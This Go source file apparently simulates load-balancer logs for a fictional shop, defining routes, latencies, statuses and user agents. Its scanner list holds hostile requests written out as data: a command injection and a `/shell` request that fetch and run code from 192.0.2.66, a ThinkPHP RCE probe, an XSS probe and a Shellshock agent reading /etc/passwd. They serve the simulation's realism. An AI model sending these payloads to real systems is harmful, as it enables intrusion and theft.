package simulate

import (
	"slices"
	"strings"
)

// The shop that the traffic asks for: two target groups chosen by path, and
// routes with their methods, latencies, sizes and everyday statuses.

type group uint8

const (
	groupWeb group = iota
	groupAPI
	groups = iota
)

var groupNames = [groups]string{"web", "api"}

func groupByName(name string) (group, bool) {
	i := slices.Index(groupNames[:], name)
	return group(max(i, 0)), i >= 0
}

// rules of the listeners: https forwards /api/* by rule 20 and everything else
// by its default; http redirects by its default, but forwards api.example.com.
const (
	ruleDefault = 0
	ruleProbe   = 2  // /healthz: fixed response 200
	ruleSecrets = 5  // /.env, /.git/*: fixed response 403
	ruleOldShop = 12 // /shop/*: redirect
	ruleAPI     = 20

	ruleMaintenance = 1 // fixed response, during maintenance
	ruleAccount     = 8 // /account/*: authenticate
	ruleFunction    = 15
	ruleRPC         = 16
	ruleError       = -1 // a rule could not be evaluated
	ruleAbsent      = -2 // "-": the request was not understood
)

// A piece of a URL: literal text, or a value drawn anew each time.
type piece struct {
	literal string
	draw    drawing
}

type drawing uint8

const (
	drawNothing drawing = iota
	drawInt             // 1 to 7 digits
	drawDigit           // 1 to 9
	drawUUID            // version 4
	drawHex             // 32 hex digits
	drawSlug            // words with hyphens
	drawWord            // one word
	drawDate            // a day of the month before
	drawAsset           // hash of one of a few builds
)

var drawings = map[string]drawing{
	"{int}": drawInt, "{digit}": drawDigit, "{uuid}": drawUUID, "{hex}": drawHex,
	"{slug}": drawSlug, "{word}": drawWord, "{date}": drawDate, "{asset}": drawAsset,
}

// A route is one kind of request.
type route struct {
	method   string
	pattern  string // URL from the path on, with drawings
	weight   int    // share among the routes of its group
	status   int    // of a success
	others   []otherStatus
	medianMS float64 // of the target's time, whose logarithm is normal
	sigma    float64
	body     float64 // bytes, median
	upload   int     // bytes, mean of the request's body
}

type otherStatus struct {
	status int
	share  float64
}

// name is the path without the query: what findings call it.
func (r *route) name() string {
	name, _, _ := strings.Cut(r.pattern, "?")
	return name
}

var (
	rare404 = []otherStatus{{404, 0.012}}
	some304 = []otherStatus{{304, 0.22}, {404, 0.004}}
	api4xx  = []otherStatus{{401, 0.006}, {404, 0.010}, {429, 0.001}}
	post4xx = []otherStatus{{400, 0.008}, {401, 0.006}, {409, 0.002}, {422, 0.006}}
)

var routes = [groups][]route{
	groupWeb: {
		{"GET", "/", 90, 200, nil, 28, 0.45, 18200, 0},
		{"GET", "/products/{slug}", 130, 200, rare404, 46, 0.55, 24100, 0},
		{"GET", "/products/{slug}?ref={word}&variant={digit}", 45, 200, rare404, 47, 0.55, 24100, 0},
		{"GET", "/category/{word}?page={digit}&sort=price", 70, 200, nil, 64, 0.5, 31000, 0},
		{"GET", "/search?q={word}+{word}&page={digit}", 55, 200, nil, 120, 0.7, 27500, 0},
		{"GET", "/static/js/main.{asset}.js", 110, 200, some304, 1.6, 0.6, 92000, 0},
		{"GET", "/static/css/site.{asset}.css", 75, 200, some304, 1.4, 0.6, 21000, 0},
		{"GET", "/images/products/{int}/large.webp", 150, 200, some304, 3, 0.8, 48000, 0},
		{"GET", "/favicon.ico", 20, 200, some304, 1, 0.4, 1150, 0},
		{"GET", "/account/orders/{int}", 30, 200, []otherStatus{{302, 0.06}, {404, 0.01}}, 75, 0.6, 15400, 0},
		{"POST", "/login", 14, 302, []otherStatus{{401, 0.07}}, 160, 0.35, 420, 140},
		{"POST", "/cart/add", 28, 303, []otherStatus{{422, 0.01}}, 40, 0.5, 380, 190},
		{"GET", "/invoices/{uuid}.pdf", 6, 200, rare404, 420, 0.7, 310000, 0},
		{"GET", "/blog/{date}/{slug}", 24, 200, rare404, 35, 0.5, 19800, 0},
	},
	groupAPI: {
		{"GET", "/api/v1/products/{int}", 150, 200, api4xx, 12, 0.6, 1900, 0},
		{"GET", "/api/v1/products?category={word}&limit=50&offset={int}", 70, 200, nil, 38, 0.6, 28400, 0},
		{"GET", "/api/v1/users/{uuid}", 75, 200, api4xx, 9, 0.6, 780, 0},
		{"GET", "/api/v1/users/{uuid}/orders", 40, 200, api4xx, 31, 0.7, 5400, 0},
		{"GET", "/api/v1/orders/{int}", 65, 200, api4xx, 17, 0.6, 2600, 0},
		{"POST", "/api/v1/orders", 26, 201, post4xx, 95, 0.6, 690, 1450},
		{"PUT", "/api/v1/carts/{hex}", 38, 200, post4xx, 22, 0.5, 910, 620},
		{"DELETE", "/api/v1/carts/{hex}/items/{int}", 14, 204, api4xx, 15, 0.5, 0, 0},
		{"GET", "/api/v1/stock/{int}?warehouse={word}", 90, 200, api4xx, 6, 0.6, 340, 0},
		{"POST", "/api/v1/events", 60, 202, nil, 4, 0.5, 60, 2300},
		{"GET", "/api/v1/recommendations?user={uuid}", 40, 200, nil, 140, 0.6, 6200, 0},
		{"POST", "/api/v1/uploads", 7, 201, []otherStatus{{413, 0.01}}, 330, 0.7, 310, 480000},
		{"GET", "/api/reports/{int}", 40, 200, rare404, 1300, 0.7, 64000, 0},
		{"POST", "/api/export", 4, 200, nil, 2600, 0.6, 210000, 320},
	},
}

// Routes names the paths of the simulated site that forward to targets, as
// Fault.Path wants them.
func Routes() []string {
	var names []string
	for _, rs := range routes {
		for i := range rs {
			if name := rs[i].name(); !slices.Contains(names, name) {
				names = append(names, name)
			}
		}
	}
	return names
}

func isRoute(name string) bool { return slices.Contains(Routes(), name) }

// compile cuts a pattern into pieces.
func compile(pattern string) []piece {
	var pieces []piece
	for pattern != "" {
		open := strings.IndexByte(pattern, '{')
		if open < 0 {
			return append(pieces, piece{literal: pattern})
		}
		end := open + strings.IndexByte(pattern[open:], '}') + 1
		draw, ok := drawings[pattern[open:end]]
		if !ok {
			panic("BUG: unknown drawing " + pattern[open:end])
		}
		pieces = append(pieces, piece{literal: pattern[:open]}, piece{draw: draw})
		pattern = pattern[end:]
	}
	return pieces
}

var words = []string{
	"shoes", "jackets", "lamps", "garden", "kitchen", "blue", "summer", "winter", "wool", "oak",
	"desk", "travel", "camera", "coffee", "bicycle", "running", "paper", "ceramic", "linen", "copper",
	"north", "harbour", "classic", "folding", "leather", "children", "outdoor", "vintage", "cotton", "studio",
}

var assets = []string{"3f9ac2e1", "b70d114e", "91c6e8aa"}

// Requests of scanners, as the load balancer logs them: raw spaces stay, and
// quotes, backslashes and bytes above 0x7E are written \xHH.
var scans = []string{
	"/.env",
	"/.git/config",
	"/wp-login.php",
	"/phpmyadmin/index.php?lang=en",
	"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget http://192.0.2.66/x -O- | sh)",
	"/index.php?s=/index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5",
	"/shell?cd+/tmp;rm+-rf+*;wget+ 192.0.2.66/jaws;sh+/tmp/jaws",
	"/search?q=\\x22><script>alert(1)</script>",
	"/boaform/admin/formLogin?username=\\x22admin\\x22&psd=\\x22admin\\x22",
	"/solr/admin/info/system?wt=json",
	"/actuator/health",
	"/owa/auth/x.js?name=\\xE2\\x80\\xAEtxt.exe",
}

var scanAgents = []string{
	"Mozilla/5.0 zgrab/0.x",
	"-",
	"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://scanner.example.net/)",
	"Hello, World",
	"python-requests/2.27.1",
	"() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd \\x22x\\x22",
}

var probeAgents = []string{
	"Probe/2.4 (+https://monitor.example.net/bot)",
	"Blackbox-Exporter/0.25.0",
}

var browsers = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0",
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
	"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Android 15; Mobile; rv:145.0) Gecko/145.0 Firefox/145.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 OPR/125.0.0.0",
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ExampleBot/2.1; +https://crawler.example.org/bot.html) Chrome/141.0.0.0 Safari/537.36",
	"Mozilla/5.0 (compatible; ExampleSearch/7.0; +https://search.example.net/about)",
}

var programs = []string{
	"okhttp/4.12.0",
	"python-requests/2.32.5",
	"axios/1.13.2",
	"Go-http-client/1.1",
	"Java-http-client/21.0.9",
	"ShopApp/8.14.2 (com.example.shop; build:81420; iOS 18.6.2) Alamofire/5.10.2",
	"ShopApp/8.14.0 (com.example.shop; build:81400; Android 15; Pixel 8) okhttp/4.12.0",
	"Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)",
	"ExamplePartnerSync/3.2 (+https://partner.example.org/contact) Apache-HttpClient/5.4.1 (Java/21.0.9)",
	"curl/8.14.1",
}
